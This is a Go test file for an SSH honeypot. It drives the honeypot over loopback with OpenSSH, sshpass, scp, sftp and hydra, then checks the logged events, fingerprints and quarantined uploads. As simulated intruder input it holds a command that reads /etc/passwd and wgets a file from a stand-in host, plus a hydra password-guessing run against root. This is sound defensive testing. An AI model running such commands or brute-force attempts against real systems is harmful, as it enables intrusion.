package sshpot

import (
	"bytes"
	"context"
	"crypto/rand"
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vallum/vallum/internal/sensor"
)

// These tests drive the honeypot with Debian's OpenSSH client, sshpass
// and hydra over loopback; each skips when its program is missing.

func need(t *testing.T, progs ...string) {
	t.Helper()
	for _, p := range progs {
		if _, err := exec.LookPath(p); err != nil {
			t.Skipf("needs %s: %v", p, err)
		}
	}
}

// sshOpts are the options every OpenSSH client run uses: no user config,
// a private known_hosts, no agent, a timeout.
func sshOpts(t *testing.T, p *pot, portFlag string) []string {
	_, port, _ := net.SplitHostPort(p.addr)
	return []string{
		"-F", "/dev/null", portFlag, port,
		"-o", "UserKnownHostsFile=" + filepath.Join(t.TempDir(), "known_hosts"),
		"-o", "StrictHostKeyChecking=no", "-o", "LogLevel=ERROR",
		"-o", "ConnectTimeout=10", "-o", "IdentitiesOnly=yes", "-o", "IdentityAgent=none",
		"-o", "PubkeyAuthentication=no",
	}
}

func run(t *testing.T, stdin string, name string, args ...string) (string, error) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Stdin = strings.NewReader(stdin)
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	out, err := cmd.CombinedOutput()
	return string(out), err
}

func TestOpenSSHPasswordAndCommands(t *testing.T) {
	need(t, "ssh", "sshpass")
	p := startPot(t, Config{Accept: Accept{Policy: PolicyList, Credentials: []string{"root:toor"}}}, "")
	// A wrong password first: refused, recorded.
	out, err := run(t, "", "sshpass", append(append([]string{"-p", "wrong", "ssh"}, sshOpts(t, p, "-p")...), "-o", "NumberOfPasswordPrompts=1", "root@127.0.0.1", "id")...)
	if err == nil {
		t.Fatalf("a wrong password got in: %s", out)
	}
	out, err = run(t, "", "sshpass", append(append([]string{"-p", "toor", "ssh"}, sshOpts(t, p, "-p")...),
		"root@127.0.0.1", "uname -a; id; cat /etc/passwd | grep root; wget http://example.invalid/x")...)
	var ee *exec.ExitError
	if err != nil && !(errors.As(err, &ee) && ee.ExitCode() == 4) {
		t.Fatalf("ssh: %v\n%s", err, out)
	}
	for _, want := range []string{
		"Linux web01 5.15.0-105-generic #115-Ubuntu SMP Mon Apr 15 09:52:04 UTC 2024 x86_64 x86_64 x86_64 GNU/Linux\n",
		"uid=0(root) gid=0(root) groups=0(root)\n",
		"root:x:0:0:root:/root:/bin/bash\n",
		"wget: unable to resolve host address ‘example.invalid’\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, out)
		}
	}
	p.events.Wait(t, "the download event", func() bool { return len(p.events.All(sensor.KindRequest)) == 1 })
	auth := p.events.All(sensor.KindAuth)
	if len(auth) != 2 || auth[0].Credentials.Password != "wrong" || auth[0].Credentials.Accepted ||
		auth[1].Credentials.Password != "toor" || !auth[1].Credentials.Accepted {
		t.Fatalf("auth events: %+v", auth)
	}
	fp := auth[1].Fingerprints
	if !strings.HasPrefix(fp["client_version"], "SSH-2.0-OpenSSH_") || len(fp["hassh"]) != 32 || !strings.Contains(fp["hassh_algorithms"], "curve25519-sha256") {
		t.Errorf("fingerprints: %+v", fp)
	}
	cmds := p.events.All(sensor.KindCommand)
	if len(cmds) != 1 || cmds[0].Command != "uname -a; id; cat /etc/passwd | grep root; wget http://example.invalid/x" || cmds[0].Details["exec"] != "true" {
		t.Errorf("command events: %+v", cmds)
	}
	if dl := p.events.All(sensor.KindRequest)[0]; dl.Details["url"] != "http://example.invalid/x" {
		t.Errorf("download event: %+v", dl)
	}
}

func TestOpenSSHPublicKeyRecorded(t *testing.T) {
	need(t, "ssh", "ssh-keygen")
	p := startPot(t, Config{Accept: Accept{Policy: PolicyNever}}, "")
	dir := t.TempDir()
	key := filepath.Join(dir, "id_ed25519")
	if out, err := run(t, "", "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key); err != nil {
		t.Fatalf("ssh-keygen: %v %s", err, out)
	}
	lf, err := run(t, "", "ssh-keygen", "-l", "-E", "sha256", "-f", key+".pub")
	if err != nil {
		t.Fatal(err)
	}
	wantFP := strings.Fields(lf)[1] // "256 SHA256:… comment (ED25519)"
	opts := sshOpts(t, p, "-p")
	opts = append(opts[:len(opts)-2], "-o", "BatchMode=yes", "-o", "PreferredAuthentications=publickey", "-i", key)
	if out, err := run(t, "", "ssh", append(opts, "root@127.0.0.1", "id")...); err == nil {
		t.Fatalf("the key got in: %s", out)
	}
	p.events.Wait(t, "a public key attempt", func() bool { return len(p.events.All(sensor.KindAuth)) >= 1 })
	a := p.events.All(sensor.KindAuth)[0].Credentials
	if a.Method != "publickey" || a.KeyType != "ssh-ed25519" || a.KeyFingerprint != wantFP || a.Username != "root" || a.Accepted {
		t.Errorf("got %+v, want an ssh-ed25519 key %s refused", a, wantFP)
	}
}

func TestOpenSSHUploads(t *testing.T) {
	need(t, "ssh", "sshpass", "scp", "sftp")
	p := startPot(t, anyPolicy(), "")
	dir := t.TempDir()
	payload := make([]byte, 100_000)
	rand.Read(payload)
	src := filepath.Join(dir, "bot.bin")
	os.WriteFile(src, payload, 0o644)
	want := sumHex(payload)

	tests := []struct {
		name, stdin, prog string
		args              []string
		protocol          string
		path              string
	}{
		{"scp legacy", "", "scp", []string{"-O", src, "root@127.0.0.1:/tmp/"}, "scp", "/tmp/bot.bin"},
		{"scp over sftp", "", "scp", []string{"-s", src, "root@127.0.0.1:/var/tmp/x.bin"}, "sftp", "/var/tmp/x.bin"},
		{"sftp put", "put " + src + " /dev/shm/y\nls -l /dev/shm\nbye\n", "sftp", []string{"root@127.0.0.1"}, "sftp", "/dev/shm/y"},
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			args := append(append([]string{"-p", "pw", tt.prog}, sshOpts(t, p, "-P")...), tt.args...)
			out, err := run(t, tt.stdin, "sshpass", args...)
			if err != nil {
				t.Fatalf("%s: %v\n%s", tt.prog, err, out)
			}
			p.events.Wait(t, "the upload", func() bool { return len(p.events.All(sensor.KindUpload)) == i+1 })
			up := p.events.All(sensor.KindUpload)[i]
			ref := up.Payloads[0]
			if ref.SHA256 != want || ref.Size != int64(len(payload)) || ref.Truncated || up.Details["protocol"] != tt.protocol || up.Details["path"] != tt.path {
				t.Errorf("upload event %+v %+v, want %s of %d bytes at %s by %s", up.Details, ref, want, len(payload), tt.path, tt.protocol)
			}
			got, err := os.ReadFile(filepath.Join(p.dir, QuarantineDir, ref.SHA256))
			if err != nil || !bytes.Equal(got, payload) {
				t.Errorf("quarantined copy: %d bytes, %v", len(got), err)
			}
			if tt.name == "sftp put" && !strings.Contains(out, "y") {
				t.Errorf("sftp ls does not show the upload:\n%s", out)
			}
		})
	}
	info, err := os.Stat(filepath.Join(p.dir, QuarantineDir, want))
	if err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("quarantine file mode: %v %v", info, err)
	}
}

func TestOpenSSHUploadCap(t *testing.T) {
	need(t, "ssh", "sshpass", "scp")
	cfg := anyPolicy()
	cfg.Quarantine.MaxFile = 1000
	p := startPot(t, cfg, "")
	src := filepath.Join(t.TempDir(), "big")
	payload := bytes.Repeat([]byte("A"), 5000)
	os.WriteFile(src, payload, 0o644)
	if out, err := run(t, "", "sshpass", append(append([]string{"-p", "pw", "scp"}, sshOpts(t, p, "-P")...), "-O", src, "root@127.0.0.1:/tmp/")...); err != nil {
		t.Fatalf("scp: %v\n%s", err, out)
	}
	p.events.Wait(t, "the upload", func() bool { return len(p.events.All(sensor.KindUpload)) == 1 })
	up := p.events.All(sensor.KindUpload)[0]
	if ref := up.Payloads[0]; ref.Size != 1000 || !ref.Truncated || ref.SHA256 != sumHex(payload[:1000]) || up.Details["received"] != "5000" {
		t.Errorf("capped upload: %+v %+v", ref, up.Details)
	}
}

func TestOpenSSHForwardRefused(t *testing.T) {
	need(t, "ssh", "sshpass")
	p := startPot(t, anyPolicy(), "")
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	local := ln.Addr().String()
	ln.Close()
	_, lport, _ := net.SplitHostPort(local)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	args := append(append([]string{"-p", "pw", "ssh"}, sshOpts(t, p, "-p")...), "-N", "-L", lport+":192.0.2.7:3389", "root@127.0.0.1")
	cmd := exec.CommandContext(ctx, "sshpass", args...)
	cmd.Env = append(os.Environ(), "HOME="+t.TempDir())
	// sshpass's ssh child is in its process group: end both.
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		cmd.Wait()
	}()
	var c net.Conn
	for i := 0; i < 100; i++ {
		if c, err = net.Dial("tcp", local); err == nil {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	if c == nil {
		t.Fatalf("ssh -L never listened: %v", err)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if n, _ := c.Read(make([]byte, 1)); n != 0 {
		t.Error("the forwarded connection carried data")
	}
	c.Close()
	p.events.Wait(t, "the forward event", func() bool { return len(p.events.All(sensor.KindForward)) == 1 })
	fw := p.events.All(sensor.KindForward)[0]
	if fw.Details["type"] != "direct-tcpip" || fw.Details["host"] != "192.0.2.7" || fw.Details["port"] != "3389" {
		t.Errorf("forward event: %+v", fw.Details)
	}
}

func TestOpenSSHKnownHostsAcrossRestart(t *testing.T) {
	need(t, "ssh", "sshpass")
	dir, kh := t.TempDir(), filepath.Join(t.TempDir(), "known_hosts")
	for i, strict := range []string{"accept-new", "yes"} {
		p := startPot(t, anyPolicy(), dir)
		_, port, _ := net.SplitHostPort(p.addr)
		out, err := run(t, "", "sshpass", "-p", "pw", "ssh", "-F", "/dev/null", "-p", port, "-o", "UserKnownHostsFile="+kh,
			"-o", "StrictHostKeyChecking="+strict, "-o", "HostKeyAlias=honeypot", "-o", "PubkeyAuthentication=no", "-o", "LogLevel=ERROR", "root@127.0.0.1", "hostname")
		if err != nil || out != "web01\n" {
			t.Fatalf("start %d (StrictHostKeyChecking=%s): %v\n%s", i+1, strict, err, out)
		}
		p.stop()
	}
}

func TestHydraAttemptsRecorded(t *testing.T) {
	need(t, "hydra")
	p := startPot(t, Config{Accept: Accept{Policy: PolicyNever}}, "")
	passwords := []string{"123456", "password", "admin", "root", "toor", "qwerty", "letmein", "P@ssw0rd"}
	list := filepath.Join(t.TempDir(), "pw.txt")
	os.WriteFile(list, []byte(strings.Join(passwords, "\n")+"\n"), 0o644)
	out, err := run(t, "", "hydra", "-l", "root", "-P", list, "-t", "4", "-I", "ssh://"+p.addr)
	if err != nil && !strings.Contains(out, "0 valid password") {
		t.Fatalf("hydra: %v\n%s", err, out)
	}
	if !strings.Contains(out, "0 valid password") {
		t.Errorf("hydra found a password:\n%s", out)
	}
	p.events.Wait(t, "every attempt", func() bool {
		got := map[string]bool{}
		for _, ev := range p.events.All(sensor.KindAuth) {
			if ev.Credentials.Method == "password" && ev.Credentials.Username == "root" {
				got[ev.Credentials.Password] = true
			}
		}
		for _, pw := range passwords {
			if !got[pw] {
				return false
			}
		}
		return true
	})
	for _, ev := range p.events.All(sensor.KindAuth) {
		if ev.Credentials.Accepted || !strings.Contains(ev.Fingerprints["client_version"], "libssh") {
			t.Errorf("hydra attempt %+v %+v", ev.Credentials, ev.Fingerprints)
		}
	}
}

func TestOpenSSHKeyboardInteractive(t *testing.T) {
	need(t, "ssh", "sshpass")
	p := startPot(t, anyPolicy(), "")
	out, err := run(t, "", "sshpass", append(append([]string{"-p", "kbd-secret", "ssh"}, sshOpts(t, p, "-p")...),
		"-o", "PreferredAuthentications=keyboard-interactive", "admin@127.0.0.1", "whoami")...)
	if err != nil || out != "admin\n" {
		t.Fatalf("ssh: %v\n%s", err, out)
	}
	auth := p.events.All(sensor.KindAuth)
	if len(auth) != 1 || auth[0].Credentials.Method != "keyboard-interactive" || auth[0].Credentials.Password != "kbd-secret" || !auth[0].Credentials.Accepted {
		t.Errorf("auth events: %+v", auth)
	}
}
